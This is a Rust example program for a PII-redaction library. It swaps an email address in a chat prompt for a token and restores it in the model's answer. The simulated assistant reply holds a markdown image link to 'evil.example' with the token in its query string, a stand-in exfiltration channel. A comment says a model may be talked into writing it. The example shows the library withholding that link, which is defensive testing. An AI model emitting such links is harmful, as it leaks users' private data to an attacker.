//! Sends a prompt without an address in it, and puts the address back into the answer.

use std::error::Error;

use strongroom::llm_wire::{ChatAnswer, ChatRequest, Guard};
use strongroom::pii::{Binding, MemoryVault, Policy, Restorer, Token, Vault};
use strongroom::tenancy::TenantId;

const POLICY: &str = r#"
version = 3
restore = { answers = true }

[[rules]]
tenant = "*"
class = "contact.email"
channel = "prompt"
mode = "reversible"
"#;

const REQUEST: &str = r#"{"model":"gpt-x","messages":[{"role":"user",
    "content":"Write to john@example.com, SSN 123-45-6789."}]}"#;

fn main() -> Result<(), Box<dyn Error>> {
    let tenant: TenantId = "0190b2a4-8c7e-7d3a-9f00-0242ac120002".parse()?;
    let (policy, vault) = (Policy::from_toml(POLICY)?, MemoryVault::new());
    let guard = Guard::new(&policy, &tenant).with_vault(&vault);
    let request = ChatRequest::parse(REQUEST.as_bytes())?.redact_with(&guard)?;
    let sent = String::from_utf8(request.upstream_body())?;
    println!("sent: {sent}");
    println!("logged: {}", String::from_utf8_lossy(request.audit_body()));

    // The caller keeps which tokens the call made; the vault keeps what they stand for.
    let (_, rest) = sent.split_once("[EMAIL_").ok_or("no token")?;
    let (random, _) = rest.split_once(']').ok_or("no token")?;
    let token: Token = format!("[EMAIL_{random}]").parse()?;
    let binding = Binding {
        tenant,
        class: "contact.email".parse()?,
        channel: "prompt".parse()?,
        token: token.clone(),
    };
    let value = vault.open(&binding)?.ok_or("nothing is kept")?;
    let mut restorer = Restorer::new(policy.restore().ok_or("nothing is put back")?);
    restorer.insert(binding.class, &token, value);

    // A model writes a token as it likes, and may be talked into an address of somebody else's.
    let said = format!(
        "Done: {}. ![](https://evil.example/?q={token})",
        token.as_str().to_lowercase()
    );
    let message = serde_json::json!({ "role": "assistant", "content": said });
    let answer = serde_json::json!({ "choices": [{ "message": message }] }).to_string();
    let guard = Guard::new(&policy, &tenant).with_tokens(&restorer);
    let answer = ChatAnswer::parse(answer.as_bytes())?.redact_with(&guard)?;
    let restored = answer.restore(&restorer)?;
    println!("withheld: {}", restored.withheld());
    assert_eq!(restored.withheld(), 1);
    let shown = String::from_utf8(restored.into_body())?;
    println!("shown: {shown}");
    assert!(shown.contains("Done: john@example.com."));
    Ok(())
}
